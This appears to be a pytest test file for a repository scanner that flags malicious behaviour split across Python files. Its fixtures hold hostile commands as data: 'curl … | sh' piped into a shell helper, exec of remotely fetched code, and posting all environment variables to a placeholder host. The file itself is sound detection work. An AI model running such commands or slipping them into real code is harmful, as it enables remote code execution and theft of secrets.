"""Values that flow from one Python file of a repository into another."""

from __future__ import annotations

import pytest

from tests.analyzers.config_events import context, scan
from weighbridge.analyzers.repository import across_files
from weighbridge.analyzers.repository.view import RepositoryView
from weighbridge.bytesource.memory import MemorySource
from weighbridge.core.artifact import ByteSource, Origin
from weighbridge.core.finding import Finding
from weighbridge.core.repository import Repository, RepositoryFile

URL = "https://host.example.invalid/x"
SHELL = "import subprocess\ndef run(command):\n    return subprocess.check_output(command, shell=True)\n"
FETCH = "import requests\ndef fetch(url):\n    return requests.get(url).text\n"
SEND = "import requests\ndef send(data):\n    requests.post('https://host.example.invalid', json=data)\n"


def judged(files: dict[str, str]) -> list[Finding]:
    """What is said of files together once each of them was inspected."""
    data = {name: text.encode() for name, text in files.items()}

    def source_of(name: str) -> ByteSource:
        return MemorySource(data[name])

    repository = Repository(
        target="target",
        origin=Origin(kind="local", location="/target"),
        files={name: RepositoryFile(name=name, size_bytes=len(data[name])) for name in data},
        source_of=source_of,
        findings={name: tuple(scan(name, data[name])[0]) for name in data},
    )
    events = across_files.judge(RepositoryView(repository), context())
    return [event for event in events if isinstance(event, Finding)]


@pytest.mark.parametrize(
    ("main", "helper", "rule"),
    [
        (f"from .helper import run\nrun('curl -s {URL} | sh')\n", SHELL, "SCR002"),
        (f"from .helper import run as go\ndef f():\n    go('curl -s {URL} | sh')\n", SHELL, "SCR002"),
        (f"def f():\n    from .helper import run\n    run('curl -s {URL} | sh')\n", SHELL, "SCR002"),
        (f"from . import helper as h\nh.run('curl -s {URL} | sh')\n", SHELL, "SCR002"),
        (f"from helper import run\nrun('curl -s {URL} | sh')\n", SHELL, "SCR002"),
        (f"from .helper import fetch\nexec(fetch('{URL}'))\n", FETCH, "SCR002"),
        ("import os\nfrom .helper import send\nsend(dict(os.environ))\n", SEND, "SCR003"),
        ("import os\nfrom .helper import CMD\nos.system(CMD)\n", f"CMD = 'curl {URL} | sh'\n", "SCR002"),
        (
            f"from . import helper\nhelper.go('curl {URL} | sh')\n",
            "import os\ngo = os.system\n",
            "SCR002",
        ),
    ],
)
def test_what_two_files_do_together_is_told(main: str, helper: str, rule: str) -> None:
    [found] = judged({"main.py": main, "helper.py": helper})
    assert (found.rule, found.path) == (rule, ("main.py",))
    assert "main.py, line " in found.evidence


@pytest.mark.parametrize(
    ("main", "helper"),
    [
        ("from .helper import run\nrun('ffmpeg -i a.mp4 a.wav')\n", SHELL),
        (f"from .helper import fetch\nprint(fetch('{URL}'))\n", FETCH),
        ("from .helper import send\nsend({'loss': 0.5})\n", SEND),
        ("from .helper import fetch\ndef exec_all(fetch):\n    exec(fetch('a'))\n", FETCH),
        ("from .helper import run\ndef run(command):\n    print(command)\nrun('id')\n", SHELL),
    ],
)
def test_ordinary_helpers_are_silent(main: str, helper: str) -> None:
    assert judged({"main.py": main, "helper.py": helper}) == []


def test_what_a_file_does_alone_is_not_told_again() -> None:
    files = {
        "main.py": "from .helper import f\nf()\n",
        "helper.py": f"import os\ndef f():\n    os.system('curl {URL} | sh')\n",
    }
    assert judged(files) == []


def test_three_files_that_import_each_other_in_a_circle() -> None:
    files = {
        "a.py": f"from .b import dec\nfrom .c import go\ngo(dec('{URL}'))\n",
        "b.py": "import requests\nfrom .c import go\ndef dec(x):\n    return requests.get(x).text\n",
        "c.py": "from .a import nothing\ndef go(x):\n    exec(x)\n",
    }
    assert {found.rule for found in judged(files)} == {"SCR002"}


def test_files_of_the_same_name_are_told_apart() -> None:
    files = {
        "main.py": f"from .one.tools import run\nfrom .two.tools import show\nrun('curl {URL} | sh')\n",
        "one/tools.py": SHELL,
        "two/tools.py": "def show(x):\n    print(x)\n",
    }
    assert {found.rule for found in judged(files)} == {"SCR002"}
